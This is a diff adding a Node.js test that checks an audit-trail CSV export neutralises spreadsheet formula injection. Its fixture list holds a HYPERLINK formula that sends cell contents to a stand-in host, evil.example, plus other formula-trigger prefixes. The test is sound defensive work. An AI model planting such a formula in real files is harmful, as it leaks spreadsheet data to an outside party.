@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { sql } from 'kysely';
 import {
   exportAuditEvents,
@@ -108,6 +109,23 @@ describe(`the audit trail (${testDatabaseKind})`, () => {
       /^1,.*,user:test,203\.0\.113\.7,req-1,thing\.changed,thing,a,"\{""name"":\[""Cũ"",""Mới""\]\}"/,
     );
     assert.match(lines[2] ?? '', /"\{""second"":true\}"/);
+  });
+
+  it('exports text a spreadsheet would run as a formula as plain text', async () => {
+    const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', '+1+1', '-2+3', '@SUM(A1)', '\tTAB', '\rCR'];
+    for (const entityId of hostile) await append(database, entityId);
+    let csv = '';
+    for (const entityId of hostile) {
+      await exportAuditEvents(database.db, { entityType: 'thing', entityId }, (chunk) => {
+        csv += chunk;
+      });
+    }
+    const rows = parseCsv(csv, { relax_column_count: true }) as string[][];
+    const entityIds = rows.filter((row) => row[0] !== 'seq').map((row) => row[7]);
+    assert.deepEqual(
+      entityIds,
+      hostile.map((text) => `'${text}`),
+    );
   });
 
   it('names an event whose content was altered', async () => {
